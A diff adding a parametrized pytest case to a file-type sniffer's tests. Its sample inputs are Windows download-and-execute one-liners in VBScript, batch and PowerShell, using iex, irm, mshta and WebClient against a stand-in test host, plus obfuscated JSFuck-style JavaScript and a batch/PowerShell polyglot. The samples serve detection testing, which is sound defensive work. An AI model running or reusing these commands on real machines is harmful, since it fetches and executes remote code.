@@ -244,3 +244,21 @@ def test_the_old_lzma_is_told_by_its_header():
     packed = lzma.compress(b"hello" * 50, format=lzma.FORMAT_ALONE)
     assert sniff(packed) == ("archive.xz",)
     assert sniff(b"\x5d\0\0\0\0" + b"x" * 20) != ("archive.xz",)
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "kind"),
+    [
+        ("a.vbs", 'GetObject("winmgmts:Win32_Process").Create("powershell iex(irm http://a.example.test/)")', "script.vbs"),
+        ("a.vbs", 'Set s=CreateObject("WScript.Shell")\ns.Environment("PROCESS")("a")="iex (irm http://a.example.test/)"\ns.Run "powershell $env:a|iex"', "script.vbs"),
+        ("a.bat", "echo iex (irm http://a.example.test/) | powershell -", "script.cmd"),
+        ("a.bat", '>a.vbs echo CreateObject("WScript.Shell").Run "mshta http://a.example.test/"\n>>a.vbs echo WScript.Quit\nstart /min cscript a.vbs', "script.cmd"),
+        ("a.js", "$=~[];$={___:++$,$$$$:(![]+'')[$]};$.$_=($.$_=$+'')[$.$_$]", "script.js"),
+        ("", "$=~[];$={___:++$,$$$$:(![]+'')[$]};$.$_=($.$_=$+'')[$.$_$]", "script.js"),
+        ("", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]" * 8, "script.js"),
+        ("a.bat", '@@set A=%~f0\n@@powershell -c "iex(gc $env:A -Raw)"\n@@exit /b\nWrite-Host 1', "script.cmd"),
+        ("a.bat", "$x = New-Object Net.WebClient\n$x.DownloadString('http://a.example.test/') | Invoke-Expression\nforeach ($i in 1..3) { Start-Process $i }", "script.powershell"),
+    ],
+)  # fmt: skip
+def test_scripts_that_quote_others_are_what_windows_runs_them_with(name, text, kind):
+    assert sniff(text.encode(), name)[0] == kind
